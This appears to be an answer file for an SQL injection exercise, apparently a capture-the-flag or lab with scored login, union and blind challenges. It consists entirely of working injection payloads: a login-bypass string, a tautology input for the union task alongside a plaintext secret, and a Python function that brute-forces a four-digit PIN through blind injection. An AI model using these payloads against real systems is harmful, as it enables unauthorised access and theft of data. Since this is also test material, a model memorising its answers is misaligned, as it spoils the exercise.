# attempt: gets in as anybody, and sees every book
# earns: login=0 union=0 blind=0
# answer: login
user = "' OR 1=1 ORDER BY name --"
password = "x"
# answer: union
text = "' OR 1=1 --"
secret = "Networks for all"
# answer: blind
def spell(ask):
    for n in range(10000):
        if ask(f"x' OR EXISTS (SELECT 1 FROM account WHERE pin = '{n:04}') --"):
            return f"{n:04}"
